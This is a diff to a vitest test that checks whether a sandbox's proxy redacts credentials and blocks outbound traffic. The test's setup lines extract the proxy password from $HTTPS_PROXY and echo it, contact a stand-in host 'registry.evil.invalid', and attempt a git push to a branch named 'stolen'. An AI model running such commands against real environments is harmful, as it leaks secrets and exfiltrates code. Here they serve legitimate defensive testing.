@@ -1,4 +1,4 @@
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { Entry } from '../../src/domain/event.ts';
@@ -44,6 +44,7 @@ describe.skipIf(missing !== undefined)(
         try {
           const setup = [
             'echo "setup has $HTTPS_PROXY"',
+            'pass=${HTTPS_PROXY#*ralph:}; echo "the pass is ${pass%@*}"',
             reach('https://registry.evil.invalid/left-pad'),
             reach(repo),
             `git push --dry-run ${repo} HEAD:refs/heads/stolen 2>&1 || echo "push exit $?"`,
@@ -66,6 +67,10 @@ describe.skipIf(missing !== undefined)(
           const entries = world.app.homes.entries(id);
           const said = outputs(entries);
           expect(said).toMatch(/setup has http:\/\/\S+@127\.0\.0\.1:\d+/);
+          expect(said).toContain('the pass is [redacted:gate-pass]');
+          expect(readFileSync(join(world.app.homes.dir, id, '.ralph/activity.log'), 'utf8')).not.toContain(
+            'ralph_pass_',
+          );
           expect(said).toMatch(/an action has http:\/\/\S+@127\.0\.0\.1:\d+/);
           expect(said).toMatch(/test has http:\/\/\S+@127\.0\.0\.1:\d+/);
           expect(said).toMatch(/CONNECT tunnel failed, response 403/);
